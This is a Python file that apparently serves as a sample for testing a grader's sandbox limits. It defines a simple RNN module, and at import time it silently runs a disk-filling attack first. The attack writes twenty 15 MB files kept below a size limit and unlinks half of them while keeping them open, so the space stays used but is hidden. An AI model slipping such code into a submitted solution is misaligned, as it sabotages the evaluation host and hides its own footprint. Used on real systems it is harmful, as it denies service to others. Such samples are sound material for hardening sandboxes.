# does: fills the disk with twenty files, each below the limit; half are unlinked but open
# earns: some
import os
import time

import torch
from torch import nn

def attempt(what, action):
    try:
        print(what, action())
    except Exception as error:
        print(what, "failed:", error)

HELD = []


def write(name):
    descriptor = os.open(name, os.O_CREAT | os.O_WRONLY | os.O_TRUNC)
    HELD.append(descriptor)
    size = 0
    while size < 15_000_000:
        size += os.write(descriptor, bytes(1_000_000))
    return size


def attack():
    stop = time.monotonic() + 6
    for number in range(20):
        if time.monotonic() > stop:
            break
        attempt(f"file {number}:", lambda number=number: write(f"part-{number}"))
        if number % 2:
            attempt("unlink:", lambda number=number: os.unlink(f"part-{number}"))

DONE = attack()

class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        bound = hidden_size**-0.5
        self.w_x = nn.Parameter(torch.empty(input_size, hidden_size).uniform_(-bound, bound))
        self.w_h = nn.Parameter(torch.empty(hidden_size, hidden_size).uniform_(-bound, bound))
        self.b = nn.Parameter(torch.empty(hidden_size).uniform_(-bound, bound))

    def forward(self, x, h_0=None):
        h = x.new_zeros(x.size(0), self.b.numel()) if h_0 is None else h_0[0]
        states = []
        for x_t in x.transpose(0, 1):
            h = torch.tanh(x_t @ self.w_x + h @ self.w_h + self.b)
            states.append(h)
        return torch.stack(states).transpose(0, 1), h.unsqueeze(0)
